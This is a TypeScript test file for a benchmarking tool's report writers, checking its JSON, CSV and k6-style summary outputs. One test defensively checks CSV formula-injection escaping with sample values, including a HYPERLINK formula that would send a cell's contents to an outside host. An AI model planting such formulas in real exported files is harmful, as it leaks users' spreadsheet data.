import { beforeAll, describe, expect, it } from 'vitest'
import { k6Summary, resultCsv, resultJson, resultJsonFile } from './report-formats.js'
import { runBenchmark } from './run.js'
import { evaluateThresholds, parseThreshold } from './thresholds.js'
import type { ThresholdVerdict } from './thresholds.js'
import type { CallFunction, RunResult } from './types.js'

/** Every fourth call fails after 2 ms, the others succeed after 1 ms (timers: real latencies, no network needed). */
function flakyCall(): CallFunction {
  let n = 0
  return () => {
    n += 1
    const fails = n % 4 === 0
    return new Promise((resolve) => setTimeout(() => resolve({ ok: !fails, status: fails ? 500 : 200 }), fails ? 2 : 1))
  }
}

describe('result files', () => {
  let result: RunResult
  let verdicts: ThresholdVerdict[]
  beforeAll(async () => {
    result = await runBenchmark({ call: flakyCall(), settings: { mode: 'closed', calls: 40, concurrency: 2 } })
    verdicts = evaluateThresholds(result, ['error-rate < 0.5', 'p99 < 0.001ms'].map(parseThreshold))
  })

  it('writes the JSON object `wirebench bench --json` prints', () => {
    const json = resultJson(result, verdicts)
    expect(json).toMatchObject({ calls: 40, errors: 10, errorRate: 0.25, stopped: false })
    expect(json.thresholds).toEqual([
      { expr: 'error-rate < 0.5', ok: true, actual: 0.25 },
      { expr: 'p99 < 0.001ms', ok: false, actual: result.latencyMs.p99 },
    ])
    expect(Object.keys(json.latencyMs as object)).toEqual([
      'min',
      'mean',
      'p50',
      'p75',
      'p90',
      'p95',
      'p99',
      'p999',
      'max',
    ])
  })

  it('keeps the latencies of successes and failures apart when calls failed, and only then', () => {
    const json = resultJson(result, verdicts)
    // Each set's own figures, not the blend.
    expect(json.successLatencyMs).toEqual(result.successLatencyMs)
    expect(json.failureLatencyMs).toEqual(result.failureLatencyMs)
    expect(json.successLatencyMs).not.toEqual(json.latencyMs)
    const clean = resultJson({ ...result, errors: 0, errorRate: 0 }, verdicts)
    expect(clean).not.toHaveProperty('successLatencyMs')
    expect(clean).not.toHaveProperty('failureLatencyMs')
    // Every call failed: the failures' figures, and no successes' (zeros would pass a success-latency gate).
    const zero = { min: 0, mean: 0, p50: 0, p75: 0, p90: 0, p95: 0, p99: 0, p999: 0, max: 0 }
    const allFailed = { ...result, errors: result.calls, errorRate: 1, successLatencyMs: zero }
    expect(resultJson(allFailed, verdicts)).not.toHaveProperty('successLatencyMs')
    expect(resultJson(allFailed, verdicts)).toHaveProperty('failureLatencyMs')
    expect(resultCsv(allFailed)).not.toContain('total_ok')
    expect(k6Summary(allFailed, verdicts, 'rest')).not.toContain('expected_response')
  })

  it('writes one JSON file of a run: its target, the --json object and its timeline', () => {
    const target = { protocol: 'rest', url: 'http://127.0.0.1:1/', service: 'Books', method: 'getBook' }
    const file = resultJsonFile({ ...result, thresholds: verdicts }, target)
    expect(file).toEqual({ target, ...resultJson(result, verdicts), timeline: result.timeline })
    expect(Object.keys(file)[0]).toBe('target')
  })

  it('writes CSV with a header, a row a second, a total row and the successes’ and failures’ totals, one width', () => {
    const lines = resultCsv(result).trimEnd().split('\n')
    const widths = new Set(lines.map((line) => line.split(',').length))
    expect(widths.size).toBe(1)
    expect(lines[0]).toMatch(/^second,calls,errors,throughput,min_ms/)
    expect(lines).toHaveLength(1 + result.timeline.length + 3)
    const [total, ok, failed] = lines.slice(-3).map((line) => line.split(','))
    expect(total?.slice(0, 3)).toEqual(['total', '40', '10'])
    expect(Number(total?.[6])).toBe(result.latencyMs.p50)
    expect(ok?.slice(0, 4)).toEqual(['total_ok', '30', '0', ''])
    expect(Number(ok?.[6])).toBe(result.successLatencyMs.p50)
    expect(failed?.slice(0, 4)).toEqual(['total_failed', '10', '10', ''])
    expect(Number(failed?.[4])).toBe(result.failureLatencyMs.min)
    // Without failures the total is the last row.
    expect(
      resultCsv({ ...result, errors: 0 })
        .trimEnd()
        .split('\n')
        .at(-1),
    ).toMatch(/^total,/)
  })

  it('ends every CSV row with the run’s settings and, given one, its target (quoted where it needs to be)', () => {
    const target = { protocol: 'rest', url: 'http://127.0.0.1:1/a,b.json', service: 'Books', method: 'getBook' }
    const lines = resultCsv(result, target).trimEnd().split('\n')
    expect(lines[0]).toMatch(
      /,in_flight,length_s,mode,concurrency,rate_per_s,planned_duration_s,planned_calls,warmup,protocol,url,service,method$/,
    )
    for (const line of lines.slice(1)) {
      expect(line).toMatch(/,closed,2,,,40,,rest,"http:\/\/127\.0\.0\.1:1\/a,b\.json",Books,getBook$/)
    }
    const open = { ...result, settings: { mode: 'open' as const, rate: 50, durationS: 2, concurrency: 8, warmup: 3 } }
    expect(resultCsv(open).trimEnd().split('\n').at(-1)).toMatch(/,open,8,50,2,,3$/)
  })

  it('writes a target’s text that a spreadsheet would run as a formula as text', () => {
    const target = {
      protocol: 'rest',
      url: 'http://127.0.0.1:1/d.json',
      service: '=HYPERLINK("http://e/?"&A1,"x")',
      method: '=1+2',
    }
    for (const lead of ['+', '-', '@', '\t']) {
      expect(resultCsv(result, { ...target, method: `${lead}cmd` })).toContain(`,'${lead}cmd\n`)
    }
    const total =
      resultCsv(result, target)
        .split('\n')
        .find((line) => line.startsWith('total,')) ?? ''
    expect(total.endsWith(`,"'=HYPERLINK(""http://e/?""&A1,""x"")",'=1+2`)).toBe(true)
    // Figures are numbers, never prefixed.
    expect(total).toMatch(/^total,\d/)
  })

  it('writes a k6-style summary: threshold marks, failures as a custom rate (no checks without a script), iterations', () => {
    const text = k6Summary(result, verdicts, 'mcp')
    expect(text).toContain('✓ error-rate < 0.5')
    expect(text).toContain('✗ p99 < 0.001ms')
    expect(text).not.toContain('checks')
    expect(text).toMatch(/call_failed\.+: 25\.00% ✓ 10 ✗ 30/)
    expect(text).toMatch(/iterations\.+: 40 /)
    // The rate is the run's throughput, the figure the result shows (a drain is not in it), not a division of its own.
    expect(k6Summary({ ...result, throughput: 12.34 }, verdicts)).toMatch(/iterations\.+: 40 12\.34\/s/)
    expect(text).toMatch(/iteration_duration\.+: avg=[\d.]+ms min=[\d.]+ms med=/)
    expect(text).toContain('complete: 40 complete iterations')
  })

  it('writes the metrics the run’s k6 script reports: HTTP requests, or gRPC and WebSocket checks and durations', () => {
    const http = k6Summary(result, verdicts, 'rest')
    expect(http).not.toContain('checks')
    expect(http).toMatch(/http_req_duration\.+: avg=[\d.]+ms min=/)
    expect(http).toMatch(/http_req_failed\.+: 25\.00% ✓ 10 ✗ 30/)
    expect(http).toMatch(/http_reqs\.+: 40 /)
    expect(http).not.toContain('iteration_duration')
    // k6's sub-metric of the successful requests, under the blended durations.
    expect(http).toMatch(/http_req_duration\.+: avg=.*\n {7}\{ expected_response:true \}\.+: avg=[\d.]+ms min=/)
    expect(k6Summary({ ...result, errors: 0 }, verdicts, 'rest')).not.toContain('expected_response')
    const grpc = k6Summary(result, verdicts, 'grpc')
    expect(grpc).toMatch(/checks\.+: 75\.00% ✓ 30 ✗ 10/)
    expect(grpc).toMatch(/grpc_req_duration\.+: avg=/)
    expect(k6Summary(result, verdicts, 'websocket')).toMatch(/ws_session_duration\.+: avg=/)
    // A GraphQL script checks the answers' errors beside the HTTP metrics.
    const graphql = k6Summary(result, verdicts, 'graphql')
    expect(graphql).toMatch(/checks\.+: 75\.00% ✓ 30 ✗ 10/)
    expect(graphql).toMatch(/http_req_duration\.+: avg=/)
  })
})
